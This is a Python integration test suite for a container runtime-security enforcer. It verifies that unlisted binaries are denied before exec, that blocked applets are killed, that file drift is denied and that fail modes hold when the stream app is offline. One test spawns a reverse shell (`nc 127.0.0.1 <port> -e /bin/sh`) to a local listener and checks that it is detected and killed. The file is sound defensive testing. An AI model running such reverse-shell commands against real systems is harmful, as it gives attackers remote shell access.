"""Verdicts enforced on the real kernel: execs denied before they run, blocked processes killed,
reverse shells caught, and the fail modes when the stream app is away. Real Kafka, real stream
worker, real runc container, real collector."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from prometheus_client.metrics_core import Metric
from prometheus_client.parser import text_string_to_metric_families

from collectors.enforcement.exec_answerer import METRICS_EVERY_S
from procwarden.testbed.containers import APP_LOOP, Container, run_container
from schemas import (
    Decision,
    EventKind,
    ExecCheck,
    FailMode,
    HoldSettings,
    Incident,
    IncidentAction,
    ProfilePatch,
    RuleChange,
    ServiceConfig,
    Verdict,
)
from schemas.connections import KafkaConnection
from schemas.topics import EXEC, POLICY_UPDATES, SECURITY_EVENTS, VERDICTS, verdict_partition
from tests.integration.streamkit import (
    WORKDIR,
    Pipeline,
    free_port,
    running_collector,
    wait_for_line,
)

NODE = "node-enforce"
GROUP = "nv.guard.enf"
# What the guard container may run: its app loop's shell, and a few tools.
ALLOWED = ("sh", "cat", "cp", "echo", "sleep", "nc", "id")


@dataclass
class Guarded:
    pipe: Pipeline
    box: Container
    log: Path
    tmp: Path
    collector: contextlib.ExitStack
    metrics_port: int
    fast_answers: str  # the collector's COLLECTOR_FAST_ANSWERS

    def verdict(self, test: object, timeout: float = 30.0) -> Decision:
        env, _ = self.pipe.wait_for(
            VERDICTS.name, lambda e: isinstance(e.payload, Decision)
            and e.payload.workload_id == self.box.id and test(e.payload),  # type: ignore[operator]
            timeout=timeout, partitions=[verdict_partition(NODE, VERDICTS.partitions)])
        assert isinstance(env.payload, Decision)
        return env.payload

    def hold(self, test: Callable[[HoldSettings], bool], timeout: float = 30.0) -> HoldSettings:
        """The hold settings the stream app sent this workload's collector that pass `test`."""
        env, _ = self.pipe.wait_for(
            VERDICTS.name, lambda e: isinstance(e.payload, HoldSettings)
            and e.payload.workload_id == self.box.id and test(e.payload),
            timeout=timeout, partitions=[verdict_partition(NODE, VERDICTS.partitions)])
        assert isinstance(env.payload, HoldSettings) and env.kind is EventKind.HOLD_SETTINGS
        return env.payload


# Every test with held execs answered by the compiled wait (collectors/enforcement/fast_answer.c) and by
# the Python code alone, which stays the reference.
@pytest.fixture(scope="module", params=["compiled", "python"])
def guarded(kafka: KafkaConnection, tmp_path_factory: pytest.TempPathFactory,
            request: pytest.FixtureRequest) -> Iterator[Guarded]:
    tmp = tmp_path_factory.mktemp("enforce")
    pipe = Pipeline(kafka, tmp)
    pipe.start_worker()
    try:
        with contextlib.ExitStack() as collector, \
                run_container(WORKDIR, "guard", namespace="enf", command=APP_LOOP) as box:
            port = free_port()
            fast = str(request.param == "compiled").lower()
            log = collector.enter_context(running_collector(
                pipe, NODE, tmp, COLLECTOR_METRICS_PORT=str(port), COLLECTOR_FAST_ANSWERS=fast))
            g = Guarded(pipe, box, log, tmp, collector, port, fast)
            # Long enough for /proc to be read: seen, announced, its group created.
            assert box.app("sleep 1; echo ready") == (0, "ready\n")
            g.verdict(lambda d: d.group == GROUP)
            pipe.send(POLICY_UPDATES.name, GROUP, ProfilePatch(GROUP, process_change_list=tuple(
                RuleChange(name, "/bin/busybox", "allow") for name in ALLOWED)))
            pipe.send(POLICY_UPDATES.name, GROUP, ServiceConfig(
                services=("guard.enf",), profile_mode="Protect", baseline_profile="zero-drift"))
            state = g.hold(lambda h: h.pre_exec)
            assert state.group == GROUP
            wait_for_line(log, f"holding execs of {box.id}")
            yield g
    finally:
        pipe.stop_workers()


def _incident(g: Guarded, test: object) -> Incident:
    env, _ = g.pipe.wait_for(SECURITY_EVENTS.name, lambda e: isinstance(e.payload, Incident)
                             and e.payload.workload_id == g.box.id
                             and test(e.payload))  # type: ignore[operator]
    assert isinstance(env.payload, Incident)
    return env.payload


def _drop(box: Container, name: str) -> str:
    """A binary put into the container from outside (an upload through the host's view of its
    filesystem): not a write the container's own processes make, so not one held before."""
    shutil.copy2(box.rootfs / "bin" / "busybox", box.rootfs / "tmp" / name)
    return f"/tmp/{name}"


def test_a_dropped_binary_is_denied_before_it_runs(guarded: Guarded) -> None:
    g = guarded
    rc, out = g.box.app(_drop(g.box, "whoami"))
    assert rc != 0 and "not permitted" in out.lower(), (rc, out)
    check = g.verdict(lambda d: d.event_kind is EventKind.EXEC_CHECK and d.path == "/tmp/whoami")
    assert (check.verdict, check.reason) == (Verdict.BLOCK, "pre-exec:not-in-profile")
    found = _incident(g, lambda i: i.proc_path == "/tmp/whoami")
    assert found.action is IncidentAction.DENY
    # Again: denied from the cache. A file in the container's upper layer has its layers
    # compared in Python, so the compiled wait hands it back (tests/integration/
    # test_fast_answer.py has it answer an image file's repeats).
    compiled = "procwarden_collector_pre_exec_compiled"
    before = _totals(g)
    rc, out = g.box.app("/tmp/whoami")
    assert rc != 0 and "not permitted" in out.lower(), (rc, out)
    time.sleep(2 * METRICS_EVERY_S)
    after = _totals(g)
    assert after["procwarden_collector_pre_exec"] > before["procwarden_collector_pre_exec"]
    assert after[compiled] == before[compiled]
    # It never ran, so there is no exec event of it to decide.
    # Allowed programs still run, and answers for them come from the cache from now on.
    assert g.box.app("echo still fine") == (0, "still fine\n")
    assert g.box.app("cat /etc/hostname") == (0, "busybox\n")


def test_a_denied_applet_is_killed_while_another_runs_on(guarded: Guarded) -> None:
    g = guarded
    sleeper = g.box.spawn("sleep", "60")  # allowed (runtime-injected, but user rule)
    tail = g.box.spawn("tail", "-f", "/dev/null")  # BusyBox: held pre-exec only as busybox
    try:
        decision = g.verdict(lambda d: d.event_kind is EventKind.EXEC and d.name == "tail")
        assert decision.verdict is Verdict.BLOCK
        assert tail.wait(15) != 0  # killed right after exec
        wait_for_line(g.log, f"pid {decision.pid} (tail")
        assert "killed" in g.log.read_text().split(f"pid {decision.pid} (tail", 1)[1][:200]
        time.sleep(0.5)
        assert sleeper.poll() is None  # the allowed applet runs on
    finally:
        sleeper.kill()
        tail.kill()
        sleeper.wait()
        tail.wait()


def test_a_reverse_shell_over_loopback_is_caught(guarded: Guarded) -> None:
    g = guarded
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(20)
        port = listener.getsockname()[1]
        shell = g.box.spawn("nc", "127.0.0.1", str(port), "-e", "/bin/sh")
        try:
            conn, _ = listener.accept()
            with conn:
                found = _incident(g, lambda i: i.name == "Container.Tunnel.Detected")
                assert found.action is IncidentAction.DENY
                assert found.message.startswith("Tunnel detected: reverse shell")
                conn.settimeout(15)
                # Protect: the shell is killed, so the attacker's end sees the connection close.
                assert conn.recv(1024) == b""
        finally:
            shell.kill()
            shell.wait()


def _counters(g: Guarded) -> list[Metric]:
    """The collector's counters, once what its exec answerer counted until now has reached it
    (it sends its counters every METRICS_EVERY_S)."""
    time.sleep(2.5 * METRICS_EVERY_S)
    with urllib.request.urlopen(f"http://127.0.0.1:{g.metrics_port}/metrics", timeout=5) as r:
        text = r.read().decode()
    return [family for family in text_string_to_metric_families(text)
            if family.type == "counter"]


def _placed(g: Guarded) -> dict[str, float]:
    return {sample.labels["by"]: sample.value for family in _counters(g)
            if family.name == "procwarden_collector_held_placed"
            for sample in family.samples if sample.name.endswith("_total")}


def test_held_execs_are_placed_by_lineage_and_runc_exec_is_read(guarded: Guarded) -> None:
    """A held exec's container and family come from its creator once the creator was placed
    (no /proc read); a `runc exec` process, made on the host and moved in, is read every time
    and stays runtime-injected."""
    g = guarded
    for name in ("lin-a", "lin-b", "lin-c"):
        _drop(g.box, name)
    before = _placed(g)
    rc, out = g.box.app("/tmp/lin-a; /tmp/lin-b; echo done")  # the app loop's: family
    assert out.endswith("done\n") and out.count("not permitted") == 2, (rc, out)
    injected = g.box.spawn("/tmp/lin-c")
    assert injected.wait(15) != 0  # denied
    after = _placed(g)
    checks = {e.payload.path: e.payload for e in g.pipe.read_all(EXEC.name, settle=1.0)
              if isinstance(e.payload, ExecCheck) and e.payload.path.startswith("/tmp/lin-")}
    assert not checks["/tmp/lin-a"].runtime_injected
    assert not checks["/tmp/lin-b"].runtime_injected
    assert checks["/tmp/lin-c"].runtime_injected
    # The second program at least, through the shell that runs both: the first one's exec
    # placed the shell, unless the shell's own exec (of /bin/busybox) was held and placed it
    # first, which it is not once the kernel remembers that file.
    assert after.get("lineage", 0) - before.get("lineage", 0) >= 1, (before, after)
    # runc's own init and the program: read, as is the host-made process's every exec
    assert after.get("proc", 0) - before.get("proc", 0) >= 1, (before, after)


def test_file_drift_is_reported_with_its_writer(guarded: Guarded) -> None:
    g = guarded
    # Creating an executable cannot be held: it is reported, denied, and its content write is.
    rc, out = g.box.app("echo data > /tmp/data.txt; cp /bin/busybox /tmp/tool; sleep 0.5")
    assert "can't create '/tmp/tool': Operation not permitted" in out, (rc, out)
    tool = _incident(g, lambda i: i.file_path == "/tmp/tool"
                     and i.message.startswith("File drift, new executable file"))
    assert tool.name == "Container.FileAccess.Violation"
    assert tool.message == "File drift, new executable file: access denied"  # Protect
    assert tool.proc_name in ("cp", "")  # the writer, while it was still there to read
    assert (g.box.rootfs / "tmp" / "tool").stat().st_size == 0  # no program got into it
    decision = g.verdict(lambda d: d.event_kind is EventKind.FILE and d.path == "/tmp/data.txt")
    assert (decision.verdict, decision.reason) == (Verdict.ALLOW, "no-drift")
    assert g.box.app("cat /tmp/data.txt") == (0, "data\n")  # new plain files are written


def test_a_drift_write_is_denied_before_it_happens(guarded: Guarded) -> None:
    g = guarded
    rc, out = g.box.app("echo tampered >> /etc/hostname; echo again >> /etc/hostname; "
                        "cat /etc/hostname")
    assert out.count("can't create /etc/hostname: Operation not permitted") == 2, (rc, out)
    assert out.endswith("busybox\n"), out  # the image file is as it was
    decision = g.verdict(lambda d: d.event_kind is EventKind.FILE and d.path == "/etc/hostname")
    assert (decision.verdict, decision.reason) == (Verdict.BLOCK, "drift:modify")
    found = _incident(g, lambda i: i.file_path == "/etc/hostname")
    assert found.message == "File drift, image file modified: access denied"
    assert (found.action, found.proc_name) == (IncidentAction.DENY, "sh")
    # The shell's second attempt a moment later is denied too, but reported once.
    assert g.log.read_text().count("denied a write before it happened: /etc/hostname") == 1
    # Reads of image files, and writes where drift is not judged, go ahead.
    assert g.box.app("cat /etc/hostname > /dev/null; echo ok") == (0, "ok\n")


def _totals(g: Guarded) -> dict[str, float]:
    """Each counter of the collector's, summed over its labels."""
    return {family.name: sum(s.value for s in family.samples if s.name.endswith("_total"))
            for family in _counters(g)}


def test_the_kernel_allows_a_remembered_file_until_the_policy_changes(guarded: Guarded
                                                                       ) -> None:
    """Once the container's own shell was allowed to exec /bin/busybox (from the image, one
    name), the kernel allows its later execs unheld; a policy change holds them again."""
    g = guarded
    answered, remembered = ("procwarden_collector_pre_exec", "procwarden_collector_kernel_remembered")
    assert g.box.app("echo warm") == (0, "warm\n")  # the app loop execs sh: /bin/busybox
    before = _totals(g)
    assert before[remembered] >= 1, before
    assert g.box.app("cat /dev/null; cat /dev/null; echo ok") == (0, "ok\n")
    after = _totals(g)
    assert after[answered] == before[answered], (before, after)  # three execs, none held

    _change_policy(g, after, RuleChange("true", "/bin/busybox", "allow"))
    assert g.box.app("echo again") == (0, "again\n")
    again = _totals(g)
    assert again[answered] > after[answered], (after, again)  # held again, and remembered
    assert again[remembered] > after[remembered], (after, again)

    # A runtime-injected caller is allowed whatever the file; the file is remembered only
    # because its verdict says the container's own processes would be allowed too.
    _change_policy(g, again, RuleChange("false", "/bin/busybox", "allow"))
    since = time.time()
    assert g.box.spawn("cat", "/dev/null").wait(15) == 0
    checks = [e.payload for e in g.pipe.read_all(EXEC.name, settle=1.0)
              if isinstance(e.payload, ExecCheck) and e.ts >= since]
    assert [(c.path, c.runtime_injected) for c in checks] == [("/bin/busybox", True)], checks
    by_injected = _totals(g)
    assert by_injected[remembered] > again[remembered], (again, by_injected)
    assert g.box.app("echo own") == (0, "own\n")
    assert _totals(g)[answered] == by_injected[answered]  # the shell's exec was not held


def _change_policy(g: Guarded, before: dict[str, float], change: RuleChange) -> None:
    """Add a rule, and wait until the collector flushed what the kernel remembered."""
    forgotten = "procwarden_collector_kernel_forgotten"
    g.pipe.send(POLICY_UPDATES.name, GROUP, ProfilePatch(GROUP, process_change_list=(change,)))
    deadline = time.monotonic() + 30
    while _totals(g).get(forgotten, 0.0) == before.get(forgotten, 0.0):
        assert time.monotonic() < deadline, "the policy change did not reach the collector"
        time.sleep(0.1)


def _answerer() -> int:
    """The pid of the collector's exec answerer (collectors/enforcement/exec_answerer.py)."""
    collector = subprocess.run(["pgrep", "-f", f"procwarden.cli collector --node {NODE}"],
                               capture_output=True, text=True, check=False).stdout.split()
    assert len(collector) == 1, collector
    children = subprocess.run(["pgrep", "-P", collector[0], "-f", "collectors.enforcement.exec_answerer"],
                              capture_output=True, text=True, check=False).stdout.split()
    assert len(children) == 1, children
    return int(children[0])


def test_held_execs_are_answered_by_a_real_time_process(guarded: Guarded) -> None:
    """While execs are held, the collector's exec answerer runs SCHED_FIFO; once none is held,
    at the default priority again. The collector's own threads never leave it."""
    g = guarded
    answerer = _answerer()
    assert os.sched_getscheduler(answerer) == os.SCHED_FIFO
    collector = int(Path(f"/proc/{answerer}/stat").read_text().rpartition(")")[2]
                    .split()[1])  # its parent
    for task in Path(f"/proc/{collector}/task").iterdir():
        with contextlib.suppress(ProcessLookupError):
            assert os.sched_getscheduler(int(task.name)) == os.SCHED_OTHER

    mark = g.log.stat().st_size
    g.pipe.send(POLICY_UPDATES.name, GROUP, ServiceConfig(services=("guard.enf",),
                                                          profile_mode="Monitor"))
    wait_for_line(g.log, "no exec is held: default scheduling again", after=mark)
    assert os.sched_getscheduler(answerer) == os.SCHED_OTHER

    mark = g.log.stat().st_size
    g.pipe.send(POLICY_UPDATES.name, GROUP, ServiceConfig(services=("guard.enf",),
                                                          profile_mode="Protect"))
    wait_for_line(g.log, f"holding execs of {g.box.id}", after=mark)
    wait_for_line(g.log, "held execs are answered at a real-time priority", after=mark)
    assert os.sched_getscheduler(answerer) == os.SCHED_FIFO


def test_a_killed_answerer_is_started_again_and_holds_again(guarded: Guarded) -> None:
    """The answerer killed: the kernel lets its held execs go (its group closed), the collector
    starts another, tells it the held workloads, and execs are held and denied again. Its
    counters go on from where they were."""
    g = guarded
    before = _totals(g)
    old = _answerer()
    mark = g.log.stat().st_size
    os.kill(old, 9)
    wait_for_line(g.log, "the exec answerer exited (-9)", after=mark)
    wait_for_line(g.log, f"holding execs of {g.box.id}", after=mark)
    assert _answerer() != old
    rc, out = g.box.app(_drop(g.box, "after-restart"))
    assert rc != 0 and "not permitted" in out.lower(), (rc, out)
    check = g.verdict(lambda d: d.event_kind is EventKind.EXEC_CHECK
                      and d.path == "/tmp/after-restart")
    assert check.verdict is Verdict.BLOCK
    after = _totals(g)
    assert after["procwarden_collector_pre_exec"] > before["procwarden_collector_pre_exec"]


def test_fail_modes_when_the_stream_app_is_away(guarded: Guarded) -> None:
    # Last in this module: it stops the stream worker.
    g = guarded
    g.pipe.stop_workers()
    # Open (the collector's default): a first-seen exec waits for the timeout, then runs.
    started = time.monotonic()
    assert g.box.app(f"{_drop(g.box, 'true')}; echo $?") == (0, "0\n")
    assert time.monotonic() - started < 10  # the host did not hang
    assert "allowed by fail mode" in g.log.read_text()
    # The group says closed: its collectors deny, whatever their own setting.
    g.pipe.start_worker()
    g.pipe.send(POLICY_UPDATES.name, GROUP, ProfilePatch(GROUP, fail_mode="closed"))
    g.hold(lambda h: h.fail_mode is FailMode.CLOSED)
    g.pipe.stop_workers()
    started = time.monotonic()
    rc, out = g.box.app(_drop(g.box, "false"))
    assert rc != 0 and "not permitted" in out.lower(), (rc, out)
    assert time.monotonic() - started < 10
    assert "denied by fail mode" in g.log.read_text()
    # A restarted collector (still open by its own setting) remembers the workload is held and
    # its group's fail mode, before any verdict tells it again.
    g.collector.close()
    again = g.tmp / "again"
    again.mkdir()
    env = {"COLLECTOR_STATE_DIR": str(g.tmp / f"collector-{NODE}"),
           "COLLECTOR_FAST_ANSWERS": g.fast_answers}
    with running_collector(g.pipe, NODE, again, **env) as log:
        wait_for_line(log, f"holding execs of {g.box.id}")
        started = time.monotonic()
        rc, out = g.box.app("/tmp/true")
        assert rc != 0, out
        assert time.monotonic() - started < 10
        assert "denied by fail mode" in log.read_text()
        subprocess.run(["true"], check=True, timeout=5)  # host processes are never held
